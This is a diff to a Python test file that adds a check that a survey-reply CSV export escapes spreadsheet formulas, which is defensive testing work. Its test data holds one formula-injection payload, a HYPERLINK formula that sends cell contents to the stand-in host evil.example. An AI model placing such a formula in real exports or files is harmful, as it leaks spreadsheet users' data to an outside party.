@@ -45,5 +45,22 @@ def test_every_format_has_one_row_per_city(network: Network) -> None:
     assert markdown.endswith("\n1 answer from people not linked to a city.\n")
 
 
+def test_a_csv_export_does_not_let_an_answer_run_as_a_formula(network: Network) -> None:
+    network.calls.create(survey(audience=Audience(cities=["lyon"])))
+    network.calls.open("survey-2026")
+    network.deliver()
+    post = network.post_of("survey-2026", "!lyon")
+    formula = '1. -2\n2. =HYPERLINK("http://evil.example/?"&A1,"Click")'
+    network.calls.handle(network.message("@ana:uccn.test", formula, "$a1", post))
+    export = call_export(network.store, "survey-2026")
+    assert export is not None
+    out = io.StringIO()
+    Plugins.load().exporters()["replies:csv"].write([export], out)
+    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+    # A spreadsheet opening the file shows the answer as text; it does not run it.
+    assert row["q2"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["q1"] == "-2"  # a number stays a number
+
+
 def test_an_unknown_call_exports_nothing(network: Network) -> None:
     assert call_export(network.store, "nope") is None
